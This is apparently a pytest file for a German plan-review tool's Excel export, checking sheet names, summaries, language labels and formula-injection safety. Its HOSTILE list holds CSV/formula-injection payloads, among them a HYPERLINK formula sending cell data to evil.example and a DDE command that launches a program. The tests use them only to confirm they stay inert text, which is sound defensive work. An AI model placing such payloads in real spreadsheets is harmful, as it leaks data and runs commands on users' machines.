"""The comparison as xlsx (`build --xlsx`): its sheets, and text that never becomes a formula."""

from __future__ import annotations

import csv

import openpyxl
import pytest
from conftest import run_cli
from openpyxl import Workbook

from planreview.export.workbook import SHEET_ORDER, SUMMARY_SHEET, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
]
HEADER = [
    "Nr.",
    "Handlungsfeld",
    "Maßnahme",
    "Federführung",
    "Ende",
    "Status",
    "Sachstand",
    "Begründung",
]


def _csv(path, rows):
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows([HEADER, *rows])


def _cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_safe_cell_keeps_every_hostile_value_as_text(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    for n, value in enumerate([*HOSTILE, "ok", 3, None, "a\x00b\x07c"], start=1):
        safe_cell(sheet.cell(n, 1), value)
    workbook.save(tmp_path / "x.xlsx")
    reread = openpyxl.load_workbook(tmp_path / "x.xlsx")["Sheet"]
    values = [reread.cell(n, 1).value for n in range(1, len(HOSTILE) + 5)]
    assert values == [*HOSTILE, "ok", 3, None, "abc"]
    for n, value in enumerate(HOSTILE, start=1):
        cell = reread.cell(n, 1)
        assert cell.data_type == "s", value
        assert cell.quotePrefix == (value != "#N/A"), value  # Excel keeps it text when edited


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """2019 and 2020 with hostile text in every text column; the export of 2020."""
    root = tmp_path_factory.mktemp("hostile")
    inputs = root / "inputs"
    _csv(
        inputs / "Stand_2019.csv",
        [
            ["1.1", "Sprache", HOSTILE[0], "VHS", "2021", "laufend", "", ""],
            ["1.2", "Sprache", "+1", "-2", "2019", "geplant", "", ""],
            ["1.3", "Sprache", "Elterncafé", "VHS", "fortlaufend", "laufend", "", ""],
            ["2.1", "@Arbeit", "Jobmesse", "Jobcenter", "2020", "laufend", "", ""],
        ],
    )
    _csv(
        inputs / "Stand_2020.csv",
        [
            ["1.1", "Sprache", HOSTILE[0], "VHS", "2021", "umgesetzt", "@SUM(A1:A9)", ""],
            ["1.2", "Sprache", "+1", "-2", "2019", "geplant", "-2 Kurse", ""],
            ["1.3", "Sprache", "Elterncafé", "VHS", "fortlaufend", "entfallen", "", HOSTILE[6]],
            ["2.2", "@Arbeit", "=1+1", "=A1", "2022", "in Vorbereitung", "+49 5331", ""],
        ],
    )
    target = root / "vergleich.xlsx"
    code, out, err = run_cli(
        "build", "--inputs", str(inputs), "--no-pdf", "-q", "--xlsx", str(target)
    )
    assert code == 0, err
    assert out == f"Vergleich als Excel-Datei geschrieben: {target}\n"
    return openpyxl.load_workbook(target)


def test_no_cell_is_a_formula(exported):
    kinds = {cell.data_type for cell in _cells(exported)}
    assert "f" not in kinds and "e" not in kinds
    texts = {cell.value for cell in _cells(exported) if isinstance(cell.value, str)}
    assert {HOSTILE[0], "+1", "-2", "@SUM(A1:A9)", "=1+1", "=A1", HOSTILE[6]} <= texts


# The sheet of each change class in SHEET_ORDER, named as the report calls the class.
CLASS_SHEETS = {
    "de": [
        "Vorangekommen", "Zurückgefallen", "Neu aufgenommen", "Nicht mehr berichtet",
        "Entfallen", "Zurückgestellt", "Wieder aufgenommen", "Seit Jahren unverändert",
        "Überfällig", "Unverändert", "Keine Rückmeldung",
    ],
    "en": [
        "Progressed", "Regressed", "New", "No longer reported", "Dropped", "Postponed",
        "Resumed", "Unchanged for years", "Overdue", "Unchanged", "No answer",
    ],
}  # fmt: skip


def test_sheets_one_per_class_and_a_summary(exported):
    assert exported.sheetnames == [
        "Alle Maßnahmen",
        *CLASS_SHEETS["de"],
        "Nach Handlungsfeld",
        "Prüfprotokoll",
    ]
    assert SUMMARY_SHEET == "Nach Handlungsfeld"
    assert exported.properties.language == "de-DE"
    for sheet in exported.worksheets:
        assert sheet.freeze_panes in ("A2", "B2", "C2"), sheet.title
        assert sheet.auto_filter.ref.startswith("A1:"), sheet.title
        assert sheet.auto_filter.ref.endswith(str(sheet.max_row)), sheet.title


def _rows(sheet):
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_all_measures_with_both_statuses_and_the_change(exported):
    rows = _rows(exported["Alle Maßnahmen"])
    got = [(r["Nr."], r["Status 2019"], r["Status 2020"], r["Veränderung"]) for r in rows]
    assert got == [
        ("1.1", "in Umsetzung", "umgesetzt", "Vorangekommen"),
        ("1.2", "nicht begonnen", "nicht begonnen", "Unverändert"),
        ("1.3", "in Umsetzung", "entfallen", "Entfallen"),
        ("2.1", "in Umsetzung", None, "Nicht mehr berichtet"),
        ("2.2", None, "in Vorbereitung", "Neu aufgenommen"),
    ]
    assert rows[1]["Überfällig"] == "ja" and rows[1]["Federführung"] == "-2"
    assert rows[2]["Begründung"] == HOSTILE[6]
    assert rows[3]["Quelle"].startswith("Stand_2019.csv")


def test_each_class_sheet_lists_its_measures(exported):
    names = dict(zip(SHEET_ORDER, CLASS_SHEETS["de"], strict=True))
    ids = {k: [r["Nr."] for r in _rows(exported[names[k]])] for k in SHEET_ORDER}
    assert ids == {
        "progressed": ["1.1"],
        "regressed": [],
        "new": ["2.2"],
        "removed": ["2.1"],
        "dropped": ["1.3"],
        "postponed": [],
        "resumed": [],
        "stalled": [],
        "overdue": ["1.2"],
        "unchanged": ["1.2"],
        "no_response": [],
    }


def test_summary_by_field_counts(exported):
    rows = {r["Handlungsfeld"]: r for r in _rows(exported[SUMMARY_SHEET])}
    assert list(rows) == ["Sprache", "@Arbeit", "Insgesamt"]
    total = rows["Insgesamt"]
    assert (total["Maßnahmen 2019"], total["Maßnahmen 2020"]) == (4, 4)
    assert rows["@Arbeit"]["Nicht mehr berichtet"] == 1
    assert rows["@Arbeit"]["Neu aufgenommen"] == 1
    assert rows["Sprache"]["umgesetzt 2020"] == 1
    assert rows["Sprache"]["entfallen 2020"] == 1


def test_xlsx_without_file_name_goes_beside_the_pdf(tmp_path, monkeypatch):
    _csv(tmp_path / "in" / "Stand_2019.csv", [["1.1", "A", "Kurs", "VHS", "", "laufend", "", ""]])
    _csv(tmp_path / "in" / "Stand_2020.csv", [["1.1", "A", "Kurs", "VHS", "", "laufend", "", ""]])
    monkeypatch.chdir(tmp_path)
    code, out, err = run_cli("build", "--inputs", "in", "--xlsx", "--no-pdf", "-q")
    assert (code, err) == (0, "")
    assert (tmp_path / "reports" / "bericht-2020.xlsx").is_file()
    assert "reports/bericht-2020.xlsx" in out


def _export(tmp_path, *options):
    """The hostile inputs' 2020 exported with the given options."""
    inputs = tmp_path / "inputs"
    _csv(inputs / "Stand_2019.csv", [["1.1", "Sprache", "Kurs", "VHS", "2021", "laufend", "", ""]])
    _csv(inputs / "Stand_2020.csv", [["1.1", "Sprache", "Kurs", "VHS", "2021", "erledigt", "", ""]])
    target = tmp_path / "vergleich.xlsx"
    code, _, err = run_cli(
        "build", "--inputs", str(inputs), "--no-pdf", "-q", "--xlsx", str(target), *options
    )
    assert code == 0, err
    return openpyxl.load_workbook(target)


def test_the_workbook_in_english_with_lang_en(tmp_path):
    exported = _export(tmp_path, "--lang", "en")
    assert exported.sheetnames == [
        "All measures",
        *CLASS_SHEETS["en"],
        "By field of action",
        "Check protocol",
    ]
    assert exported.properties.title == "Integrationskonzept: 2020 compared with 2019"
    assert exported.properties.language == "en-GB"
    (row,) = _rows(exported["All measures"])
    assert (row["No."], row["Status 2019"], row["Status 2020"], row["Change"]) == (
        "1.1",
        "in progress",
        "implemented",
        "Progressed",
    )
    assert {"Unchanged for years", "Overdue"} <= set(row)
    summary = {r["Field of action"]: r for r in _rows(exported["By field of action"])}
    assert list(summary) == ["Sprache", "Total"]
    assert summary["Sprache"]["implemented 2020"] == 1
    assert summary["Total"]["Progressed"] == 1


def test_the_change_classes_named_by_the_templates_used(tmp_path):
    import shutil

    from planreview.resources import default_templates

    templates = tmp_path / "vorlagen"
    shutil.copytree(default_templates(), templates)
    labels = templates / "labels.toml"
    text = labels.read_text(encoding="utf-8")
    assert 'progressed = "Vorangekommen"' in text
    labels.write_text(text.replace('progressed = "Vorangekommen"', 'progressed = "Weiter"', 1))
    exported = _export(tmp_path, "--templates", str(templates))
    assert exported.sheetnames[1] == "Weiter"
    (row,) = _rows(exported["Alle Maßnahmen"])
    assert row["Veränderung"] == "Weiter"


def test_the_columns_and_the_list_of_all_measures_named_as_the_report_names_them(tmp_path):
    """The words the workbook shares with the report come from the templates' labels.toml:
    reworded there, the report and the workbook (and the JSON's no-lead name) say the same."""
    import json
    import shutil

    from planreview.resources import default_templates

    templates = tmp_path / "vorlagen"
    shutil.copytree(default_templates(), templates)
    labels = templates / "labels.toml"
    text = labels.read_text(encoding="utf-8")
    for old, new in (  # the German table comes first
        ('all_measures = "Alle Maßnahmen"', 'all_measures = "Gesamtliste: alle"'),
        ('lead = "Federführung"', 'lead = "Zuständigkeit"'),
        ('status_in = "Status {year}"', 'status_in = "Stand {year}"'),
        ('no_lead = "ohne Federführung"', 'no_lead = "nicht zugeordnet"'),
    ):
        assert old in text, old
        text = text.replace(old, new, 1)
    labels.write_text(text, encoding="utf-8")
    inputs = tmp_path / "inputs"
    kurs = ["1.1", "Sprache", "Kurs", "VHS", "2021", "laufend", "", ""]
    _csv(inputs / "Stand_2019.csv", [kurs, ["1.2", "Sprache", "Treff", "", "", "laufend", "", ""]])
    _csv(inputs / "Stand_2020.csv", [kurs])  # 1.2, without a lead, not answered
    target, summary = tmp_path / "vergleich.xlsx", tmp_path / "z.json"
    code, _, err = run_cli(
        "build", "--inputs", str(inputs), "--no-pdf", "-q", "--templates", str(templates),
        "--xlsx", str(target), "--json", str(summary),
    )  # fmt: skip
    assert code == 0, err
    exported = openpyxl.load_workbook(target)
    assert exported.sheetnames[0] == "Gesamtliste alle"  # ":" is refused in a sheet name
    heads = [c.value for c in next(exported["Gesamtliste alle"].iter_rows(max_row=1))]
    assert heads[:6] == ["Nr.", "Maßnahme", "Handlungsfeld", "Zuständigkeit", "Stand 2019",
                         "Stand 2020"]  # fmt: skip
    (outstanding,) = json.loads(summary.read_text(encoding="utf-8"))["responses"]["outstanding"]
    assert (outstanding["lead"], outstanding["missing"]) == ("nicht zugeordnet", ["1.2"])


def test_a_change_class_name_excel_refuses_becomes_a_sheet_name_it_takes(tmp_path):
    import shutil

    from planreview.resources import default_templates

    templates = tmp_path / "vorlagen"
    shutil.copytree(default_templates(), templates)
    labels = templates / "labels.toml"
    text = labels.read_text(encoding="utf-8")
    text = text.replace('progressed = "Vorangekommen"', 'progressed = "Vorangekommen / besser?"', 1)
    text = text.replace(
        'regressed = "Zurückgefallen"',
        'regressed = "[Zurückgefallen]: gegenüber dem Vorjahr schlechter"',
        1,
    )
    labels.write_text(text, encoding="utf-8")
    exported = _export(tmp_path, "--templates", str(templates))
    assert exported.sheetnames[1:3] == ["Vorangekommen besser", "Zurückgefallen gegenüber dem"]
    (row,) = _rows(exported["Alle Maßnahmen"])
    assert row["Veränderung"] == "Vorangekommen / besser?"  # the cells keep the words


def test_the_tools_own_no_field_chapter_in_the_workbooks_language(tmp_path):
    inputs = tmp_path / "inputs"
    rows = [["9.1", "", "Fest", "VHS", "", "laufend", "", ""]]  # no field, none named by 9
    rows.append(["1.1", "Sprache", "Kurs", "VHS", "", "laufend", "", ""])
    _csv(inputs / "Stand_2019.csv", rows)
    _csv(inputs / "Stand_2020.csv", rows)
    (inputs / "review.toml").write_text('[[fields]]\ncode = "1"\nname = "Sprache"\n')
    for language, sheet, column, no_field in (
        ("de", "Alle Maßnahmen", "Handlungsfeld", "ohne Handlungsfeld"),
        ("en", "All measures", "Field of action", "without field of action"),
    ):
        target = tmp_path / f"{language}.xlsx"
        code, _, err = run_cli(
            "build", "--inputs", str(inputs), "--no-pdf", "-q", "--xlsx", str(target),
            "--lang", language,
        )  # fmt: skip
        assert code == 0, err
        exported = openpyxl.load_workbook(target)
        assert [r[column] for r in _rows(exported[sheet])] == ["Sprache", no_field]
        summary = exported.worksheets[-2]
        assert [r[column] for r in _rows(summary)][:2] == ["Sprache", no_field]
